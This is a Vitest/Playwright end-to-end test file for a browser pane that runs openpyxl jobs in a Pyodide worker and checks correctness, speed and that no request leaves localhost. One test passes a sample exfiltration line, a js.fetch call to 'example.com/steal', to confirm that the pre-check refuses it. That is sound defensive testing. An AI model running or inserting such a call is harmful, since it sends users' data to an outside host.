/**
 * The pane in real Chromium with the real Pyodide worker: loads, starts Python
 * behind the worker's CSP, runs an openpyxl job on uploaded files, and offers
 * the result for download. Fails if any request leaves localhost.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, renameSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import type { PreviewServer } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildAndServe, launchChromium, watchRequests } from '../helpers/browser';
import { NATIVE_PYTHON, ROOT, makeFixtures, readWorkbook } from '../helpers/python';
import { plainOpenpyxlLines, readAllScript, readSpeeds, speedScript } from '../xlsx/read-all';

let browser: Browser;
let context: BrowserContext;
let page: Page;
let server: PreviewServer;
let requests: ReturnType<typeof watchRequests>;
let fixtures: string;

beforeAll(async () => {
  fixtures = makeFixtures();
  const served = await buildAndServe();
  server = served.server;
  browser = await launchChromium();
  context = await browser.newContext({ acceptDownloads: true });
  requests = watchRequests(context);
  page = await context.newPage();
  await page.goto(served.url);
  await page.getByTestId('runtime-status').filter({ hasText: /ready/ }).waitFor({ timeout: 90_000 });
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

async function runCode(code: string, files: string[]): Promise<void> {
  await page.getByTestId('file-input').setInputFiles(files);
  await page.getByTestId('code').fill(code);
  await page.getByTestId('run').click();
}

describe('the pane in Chromium', () => {
  it('starts Python in the worker and says which openpyxl it has', async () => {
    await expect(page.getByTestId('runtime-status').textContent()).resolves.toMatch(/Python 3\.\d+.* ready \(openpyxl 3\.0\.9\)/);
  });

  it('stacks three workbooks with openpyxl and offers the right result for download', async () => {
    const code = readFileSync(join(import.meta.dirname, '..', 'jobs', 'stack_basesheet.py'), 'utf8');
    await runCode(code, ['north.xlsx', 'south.xlsx', 'west.xlsx'].map((n) => join(fixtures, 'stack', n)));
    const link = page.getByTestId('download');
    await link.waitFor({ timeout: 60_000 });
    const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
    const saved = join(fixtures, 'browser-result.xlsx');
    await download.saveAs(saved);
    const rows = readWorkbook(saved).Stacked!.rows;
    const expected = JSON.parse(readFileSync(join(fixtures, 'stack', 'expected.json'), 'utf8')) as unknown[];
    expect(rows.length - 1).toBe(expected.length);
    await expect(page.getByTestId('stdout').textContent()).resolves.toContain('stacked 120 rows');
  });

  it("reads workbooks in the worker with the fast reader's rows, line for line what plain openpyxl gives", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'reader-cases-'));
    execFileSync(NATIVE_PYTHON, [join(ROOT, 'tests', 'corpus', 'real-world', 'make_reader_cases.py'), dir]);
    const workbooks = readdirSync(dir).filter((f) => f.endsWith('.xlsx')).map((f) => join(dir, f));
    await runCode(readAllScript('/input'), workbooks);
    const stdout = page.getByTestId('stdout');
    await stdout.waitFor({ timeout: 120_000 });
    // The files of the earlier test are still in the pane: only these workbooks' lines count.
    const names = workbooks.map((p) => basename(p));
    const got = ((await stdout.textContent()) ?? '').split('\n').filter((line) => names.some((n) => line.startsWith(`${n}|`)));
    const want = plainOpenpyxlLines(workbooks).filter(Boolean);
    expect(want.length).toBeGreaterThan(40);
    expect(got).toEqual(want);
  });

  it('is served by the fast reader in the worker: by path a fraction of the time openpyxl alone takes', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'speed-'));
    execFileSync(NATIVE_PYTHON, [join(ROOT, 'tests', 'bench', 'make_stack_inputs.py'), dir, '30000'], { stdio: 'ignore' });
    const file = join(dir, 'speed.xlsx');
    renameSync(join(dir, 'north.xlsx'), file);
    await runCode(speedScript('/input/speed.xlsx'), [file]);
    const stdout = page.getByTestId('stdout').filter({ hasText: /path [\d.]+ bytes/ });
    await stdout.waitFor({ timeout: 180_000 });
    const speed = readSpeeds((await stdout.textContent()) ?? '');
    expect(speed.rows).toBe(30_001);
    expect(speed.path).toBeLessThan(speed.bytes / 3);
  });

  it('shows a pre-check refusal for hostile code, and nothing runs', async () => {
    await runCode('import js\njs.fetch("http://example.com/steal")\n', [join(fixtures, 'stack', 'north.xlsx')]);
    const error = page.getByTestId('run-error');
    await error.waitFor({ timeout: 30_000 });
    await expect(error.getAttribute('data-kind')).resolves.toBe('precheck');
  });

  it('never sent a request off localhost, and saw the worker load Pyodide from its own origin', () => {
    expect(requests.offHost).toEqual([]);
    expect(requests.all.some((u) => u.endsWith('/pyodide/pyodide.asm.wasm'))).toBe(true);
    expect(requests.all.some((u) => u.endsWith('/python/bundle.zip'))).toBe(true);
  });
});
